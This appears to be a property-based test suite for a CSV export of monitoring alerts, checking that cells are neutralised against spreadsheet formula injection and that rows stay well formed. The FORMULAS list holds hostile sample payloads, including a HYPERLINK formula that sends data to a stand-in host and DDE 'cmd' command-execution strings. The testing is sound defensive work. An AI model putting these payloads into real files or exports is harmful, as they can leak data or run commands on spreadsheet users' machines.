import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import type { Alert } from "#src/core/alert.js";
import { CSV_COLUMNS, type CsvAlert, csvOf as csvSteps } from "#src/mail/csv.js";
import { createLocalTime } from "#src/mail/language.js";
import { atOnce } from "#src/runtime/turns.js";
import { anyText } from "#test/support/any-text.js";
import { parseCsv } from "#test/support/parse-csv.js";
import { listed } from "./digest.js";

const csvOf = (...asked: Parameters<typeof csvSteps>) => atOnce(csvSteps(...asked));

const localTime = createLocalTime("Asia/Seoul");
const GENEROUS = 100 * 1024 * 1024;

const whole = (alerts: readonly CsvAlert[]) => csvOf(alerts, { localTime, maxBytes: GENEROUS, note: () => undefined });

/** The only row of one alert, by column. */
function rowOf(parts: Partial<Alert>): Record<string, string> {
  const [header = [], row = [], ...others] = parseCsv(whole([listed(7, parts)]).content);
  assert.deepEqual(header, CSV_COLUMNS);
  assert.equal(others.length, 0);
  assert.equal(row.length, header.length);
  return Object.fromEntries(header.map((column, index) => [column, row[index] ?? ""]));
}

test("a row says all that the alert says, numbers as numbers, times in UTC and in the mail's time zone", () => {
  const row = rowOf({
    occurredAt: "2026-11-21T00:00:05.250Z",
    severity: "critical",
    type: "TEMPERATURE_HIGH",
    status: "resolved",
    message: '냉동고 "3호", 문 열림',
    value: -5.25,
    threshold: -18,
    unit: "°C",
    alertId: "a-1",
    labels: { site: "busan-2", rack: "4" },
  });
  assert.deepEqual(row, {
    offset: "7",
    eventTime: "2026-11-21T00:00:07.000Z",
    localTime: "2026-11-21 09:00:07",
    occurredAt: "2026-11-21T00:00:05.250Z",
    severity: "critical",
    type: "TEMPERATURE_HIGH",
    status: "resolved",
    late: "no",
    message: '냉동고 "3호", 문 열림',
    value: "-5.25",
    threshold: "-18",
    unit: "°C",
    alertId: "a-1",
    labels: '{"site":"busan-2","rack":"4"}',
    asWritten: "",
  });
});

test("what could not be read stands in its column as it was written, and all of it in a column of its own; none of it is a formula", () => {
  const row = rowOf({ asWritten: { severity: "=SPAM", value: "=1+1", threshold: "@SUM(A1)", occurredAt: "-1 day" } });
  assert.deepEqual(
    [row["severity"], row["value"], row["threshold"], row["occurredAt"]],
    ["warning", "'=1+1", "'@SUM(A1)", "'-1 day"],
  );
  assert.equal(row["asWritten"], '{"severity":"=SPAM","value":"=1+1","threshold":"@SUM(A1)","occurredAt":"-1 day"}');
});

test("a spreadsheet sees UTF-8 by the byte order mark, and every line ends in CRLF", () => {
  const { content } = whole([listed(1, { message: "한글\n둘째 줄" }), listed(2)]);
  assert.deepEqual([...content.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const text = content.toString();
  assert.equal(text.split("\r\n").length, 4);
  assert.ok(text.endsWith("\r\n"));
  assert.ok(!/[\r\n]/.test(text.replaceAll("\r\n", "")));
});

test("late is yes, no, or empty where nobody knows", () => {
  const { late: _, ...archived } = listed(3);
  const rows = parseCsv(whole([listed(1, {}, true), listed(2), archived]).content).slice(1);
  assert.deepEqual(
    rows.map((row) => row[CSV_COLUMNS.indexOf("late")]),
    ["yes", "no", ""],
  );
});

const FORMULAS = [
  '=HYPERLINK("http://evil.test/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "   =1",
  "\u3000=1",
  "\u00a0=1",
  "\u200b=1",
  "\ufeff=1",
  "\u202e=1",
  "\u0000=1",
  '"=1',
  "'=1",
  '";=1',
];

for (const formula of FORMULAS) {
  test(`${JSON.stringify(formula)} is text in every column`, () => {
    const row = rowOf({ message: formula, type: formula, unit: formula, alertId: formula });
    for (const column of ["message", "type", "unit", "alertId"]) assert.ok(isHarmless(row[column]), row[column]);
  });
}

test("where a semicolon separates, what follows one in a text is no formula either", () => {
  const { content } = whole([listed(1, { message: 'door;=HYPERLINK("x")', labels: { a: "; @SUM(1)" } })]);
  // As a program splits that takes a semicolon for the separator: quotes within a cell mean nothing to it.
  for (const cell of content.toString().split(/[;\r\n]/)) assert.ok(isHarmless(cell.replace("\ufeff", "")), cell);
});

test("text that only looks a little like a formula stays as it is", () => {
  for (const message of ["a=b", "5 - 3", "kim@ops.test", "1e5", "ok; fine", "it's"])
    assert.equal(rowOf({ message })["message"], message);
});

const hostile = fc.oneof(
  anyText({ maxLength: 200 }),
  fc.constantFrom(
    ...FORMULAS,
    "\ud800",
    "\udc00=",
    "x".repeat(10_000),
    '"".""',
    ",,,",
    "\r\n1,2,3\r\n",
    "\u202egnp\u2066",
  ),
  fc
    .array(fc.constantFrom("=", "+", "-", "@", "＝", ";", ",", '"', "'", " ", "\t", "\r", "\n", "a", "\u200b"), {
      maxLength: 8,
    })
    .map((parts) => parts.join("")),
);

test("whatever the fields hold, each alert is one line of as many cells, and none is a formula", () => {
  fc.assert(
    fc.property(hostile, hostile, hostile, (one, two, three) => {
      const parts = { message: one, type: two, unit: three, alertId: one, labels: { [two]: three }, value: -1 };
      const { content, rows } = whole([listed(1, parts), listed(2, { message: two })]);
      assert.equal(rows, 2);
      const text = content.toString();
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is tested
      assert.ok(!/[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(text));
      assert.equal(text.split(/[\r\n]+/).length, 4);
      const parsed = parseCsv(content);
      assert.equal(parsed.length, 3);
      for (const row of parsed.slice(1)) {
        assert.equal(row.length, CSV_COLUMNS.length);
        row.forEach((cell, index) => {
          if (CSV_COLUMNS[index] !== "value") assert.ok(isHarmless(cell), JSON.stringify(cell));
        });
      }
    }),
    { numRuns: 500 },
  );
});

test("text with an apostrophe of its own keeps it", () => {
  assert.equal(rowOf({ message: "'abc" })["message"], "'abc");
  assert.equal(rowOf({ message: "'+" })["message"], "''+");
});

test("text comes back as it was, in whatever way it is composed, but for control characters and marks that turn its direction", () => {
  const plain = fc
    .string({ unit: "grapheme", maxLength: 100 })
    .filter((text) => !/[;\p{Cc}\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u.test(text));
  fc.assert(
    fc.property(plain, (message) => {
      const cell = rowOf({ message })["message"]?.normalize("NFC");
      const wanted = message.trim().normalize("NFC");
      // With an apostrophe more where it would be a formula; one that it begins with itself is its own.
      assert.ok(cell === wanted || cell === `'${wanted}`, JSON.stringify(cell));
    }),
  );
});

test("a text of 10,000 characters is whole; one longer than a cell may be is cut and says so", () => {
  assert.equal(rowOf({ message: "가".repeat(10_000) })["message"], "가".repeat(10_000));
  const cut = rowOf({ message: "x".repeat(1_000_000) })["message"] ?? "";
  assert.ok(cut.length < 32_767 && cut.endsWith("…"));
});

test("at the size limit it stops before an alert, and the last line says how many are in it", () => {
  const alerts = Array.from({ length: 100 }, (_, i) => listed(i, { message: `alert ${i}` }));
  const full = whole(alerts).content.length;
  const note = (rows: number) => (rows < 100 ? `${rows} of 100` : undefined);
  for (let maxBytes = 400; maxBytes < full; maxBytes += 37) {
    const { content, rows } = csvOf(alerts, { localTime, maxBytes, note });
    assert.ok(content.length <= maxBytes);
    const parsed = parseCsv(content).slice(1);
    assert.equal(parsed.length, rows + 1);
    assert.equal(parsed.at(-1)?.[CSV_COLUMNS.indexOf("message")], `${rows} of 100`);
    assert.deepEqual(
      parsed.slice(0, -1).map(([offset]) => Number(offset)),
      Array.from({ length: rows }, (_, i) => i),
    );
  }
  assert.equal(csvOf(alerts, { localTime, maxBytes: full, note }).rows, 100);
  assert.equal(csvOf(alerts, { localTime, maxBytes: full - 1, note }).rows, 99, "the note takes the place of an alert");
});

test("the same alerts give the same bytes", () => {
  const alerts = [listed(1, { labels: { b: "1", a: "2" } }), listed(2)];
  assert.ok(whole(alerts).content.equals(whole(alerts).content));
});

/** As spreadsheets look at a cell: without white space, quotes and what cannot be seen at its beginning. An apostrophe there means text. */
function isHarmless(cell = ""): boolean {
  return !/^[\s"\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(cell);
}
